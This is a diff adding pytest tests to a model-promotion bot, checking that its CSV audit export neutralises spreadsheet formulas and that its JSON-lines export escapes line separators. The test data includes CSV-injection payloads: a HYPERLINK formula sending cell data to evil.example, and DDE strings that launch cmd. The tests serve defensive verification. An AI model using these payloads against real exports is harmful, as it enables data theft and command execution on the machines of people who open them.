@@ -13,6 +13,8 @@ from conftest import SERVICE_POLICY
 from service_helpers import M, run, to_production
 
 from bot.cli import main
+from bot.core.commands import Deny
+from bot.core.context import Context
 from bot.doors.cli.audit import parse_since
 
 
@@ -201,3 +203,63 @@ def test_export_with_mlflow_unreachable_exits_3(monkeypatch, capsys) -> None:
     code, out, err = exported(capsys)
     assert (code, out) == (3, "")
     assert "MLflow is unreachable" in err
+
+
+# ---- text people wrote, exported (issue 20) ---------------------------------------------------
+
+FORMULAS = {
+    "staging": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "production": "+cmd|' /C calc'!A0",
+    "approval": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _hostile_trail(service, models) -> int:
+    v1 = models.version(M, accuracy=0.9, f1=0.9)
+    done = run(service, "slack:U01BOB", f"promote {M} v{v1} staging {FORMULAS['staging']}")
+    assert done.status == "done", done.reasons
+    pending = run(service, "slack:U01BOB", f"promote {M} v{v1} production {FORMULAS['production']}")
+    assert pending.status == "pending", pending.reasons
+    approved = run(service, "github:alice", f"approve {pending.request_id} {FORMULAS['approval']}")
+    assert approved.status == "done", approved.reasons
+    return v1
+
+
+def test_csv_cells_never_start_a_formula(service, models, capsys) -> None:
+    """OWASP's rule: a cell starting with =, +, -, @, a tab or a carriage return gets a
+    leading `'`, so a spreadsheet shows the text instead of evaluating it; the JSON lines
+    keep what was typed."""
+    _hostile_trail(service, models)
+    code, out, _ = exported(capsys, "--format", "csv")
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    reasons = {(row["event"], row["target"]): row["reason"] for row in rows}
+    assert reasons[("promotion", "Staging")] == "'" + FORMULAS["staging"]
+    assert reasons[("request", "Production")] == "'" + FORMULAS["production"]
+    assert reasons[("approval", "Production")] == "'" + FORMULAS["approval"]
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+    code, out, _ = exported(capsys)
+    said = {(r["event"], r["target"]): r["reason"] for r in map(json.loads, out.splitlines())}
+    assert said[("approval", "Production")] == FORMULAS["approval"]
+
+
+def test_json_lines_escape_the_line_separators(service, models, capsys) -> None:
+    """A denial reason typed in Slack's modal keeps its line separators; a reader that
+    splits the export with str.splitlines() still gets one record per line."""
+    v1 = models.version(M, accuracy=0.9, f1=0.9)
+    run(service, "slack:U01BOB", f"promote {M} v{v1} staging ok")
+    pending = run(service, "slack:U01BOB", f"promote {M} v{v1} production shadow ok")
+    reason = "one\u2028two\u2029three\x85four"
+    denied = service.handle(
+        Deny(pending.request_id, reason), Context(actor="slack:U01ALICE", channel="slack")
+    )
+    assert denied.status == "done", denied.reasons
+
+    code, out, _ = exported(capsys)
+    assert code == 0
+    records = [json.loads(line) for line in out.splitlines()]
+    assert [r["event"] for r in records] == ["promotion", "request", "denial"]
+    assert records[-1]["reason"] == reason
+    assert "\\u2028" in out and "\\u2029" in out and "\\u0085" in out
